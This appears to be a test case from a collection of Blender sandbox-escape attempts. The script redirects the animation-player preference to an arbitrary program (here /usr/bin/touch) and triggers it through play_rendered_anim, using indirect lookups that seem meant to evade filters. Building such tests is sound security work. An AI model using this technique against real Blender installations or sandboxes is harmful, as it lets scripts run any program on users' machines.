# attack: render.play_rendered_anim starts the player of the preferences, which is any program; preferences by path_resolve, operators by enumerate()
# family: operators
import bpy

chosen = bpy.context.path_resolve("preferences.filepaths")
print("REACHED", chosen)
chosen.animation_player_preset = "CUSTOM"
chosen.animation_player = "/usr/bin/touch"
bpy.context.scene.render.image_settings.file_format = "PNG"
bpy.context.scene.render.image_settings.color_mode = "RGB"
for _, tools in enumerate([bpy.ops]):
    print(tools.render.play_rendered_anim())
